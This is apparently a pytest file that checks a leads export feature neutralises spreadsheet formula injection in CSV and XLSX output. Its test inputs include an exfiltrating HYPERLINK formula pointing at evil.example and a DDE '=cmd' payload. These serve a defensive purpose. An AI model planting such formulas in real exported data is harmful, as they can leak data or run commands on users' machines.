import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from zoneinfo import ZoneInfo

import polars as pl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from tests.serve import example

from serve.pages import attach
from serve.pages.export import COLUMNS, as_csv, as_xlsx, cells_of, harmless
from serve.pages.listing import Row, Wanted
from serve.pages.sight import Sight
from serve.pages.wording import Wording

EN = Wording("en", ZoneInfo("UTC"))
FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1",
    "＠A",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", "  =1",
)  # fmt: skip
STARTS = "=+-@\t\r\n＝＋－＠"


@pytest.fixture(scope="module")
def sight(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sight]:
    """Open a company with 30 leads, one of them named like a formula."""
    ids = [*example.lead_ids(29), "=1+1"]
    with example.sight(tmp_path_factory.mktemp("export"), ids) as opened:
        yield opened


@pytest.fixture(scope="module")
def row(sight: Sight) -> Row:
    """Take the likeliest lead."""
    return next(sight.every(Wanted(closed=True)))


def read(content: bytes) -> list[list[str]]:
    """Read a CSV as a spreadsheet does."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@given(st.text(st.sampled_from(STARTS + ' "a1,;\u00a0\\'), max_size=6))
def test_no_text_is_left_that_starts_a_formula(text: str) -> None:
    """Whatever a text begins with, blanks aside, its cell begins with no sign."""
    made = harmless(text)

    assert not made.lstrip(" \u00a0").startswith(tuple(STARTS))
    assert made.removeprefix("'") == text or made == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_every_column_are_texts(row: Row, formula: str) -> None:
    """A formula in any text of a lead comes out quoted, in CSV and in XLSX."""
    hostile = replace(
        row, lead_id=formula, source=formula, owner=formula, stage=formula,
        pipeline=formula, currency=formula, reason={"en": formula, "ru": formula},
    )  # fmt: skip

    (cells,) = read(as_csv([hostile], EN))[1:]
    sheet = pl.read_excel(io.BytesIO(as_xlsx([hostile], EN)))

    for name in ("col.lead", "col.source", "col.owner", "col.stage", "col.reason"):
        assert cells[COLUMNS.index(name)] == f"'{formula}"
    kept = sheet.row(0)[COLUMNS.index("col.source")]
    assert kept.replace("_x000D_", "\r") == f"'{formula}"


def test_workbook_holds_no_formula_and_no_link(row: Row) -> None:
    """The sheet's XML knows texts and numbers only."""
    import zipfile

    made = as_xlsx([replace(row, source="=1", owner="https://evil.example")], EN)
    with zipfile.ZipFile(io.BytesIO(made)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_numbers_stay_numbers(row: Row) -> None:
    """A fall in the chance is a negative number, not a text with an apostrophe."""
    fallen = replace(row, moved=-0.25, low=0.1)

    cells = cells_of(fallen, EN)
    sheet = pl.read_excel(io.BytesIO(as_xlsx([fallen], EN)))

    assert cells[COLUMNS.index("col.moved")] == -0.25
    assert sheet.row(0)[COLUMNS.index("col.moved")] == -0.25
    assert sheet.row(0)[COLUMNS.index("col.chance")] == row.probability


@pytest.mark.parametrize(
    "query", ["?", "?tier=warm&", "?owner=m1&q=L-0001&", "?closed=yes&"]
)
def test_file_holds_the_filtered_list(sight: Sight, query: str) -> None:
    """Both files hold exactly the leads of the list, in its order."""
    app = FastAPI()
    attach(app, sight)
    client = TestClient(app)
    asked = dict(pair.split("=") for pair in query.strip("?&").split("&") if pair)
    wanted = Wanted.of(asked)

    table = read(client.get(f"/leads.csv{query}lang=ru").content)
    answer = client.get(f"/leads.xlsx{query}lang=en")
    sheet = pl.read_excel(io.BytesIO(answer.content))

    rows = sight.listing(wanted, size=1_000).rows
    assert [harmless(row.lead_id) for row in rows] == [line[0] for line in table[1:]]
    assert sheet["Lead"].to_list() == [line[0] for line in table[1:]]
    assert table[0][:3] == ["Лид", "Группа", "Вероятность"]
    assert 'filename="leads.xlsx"' in answer.headers["Content-Disposition"]
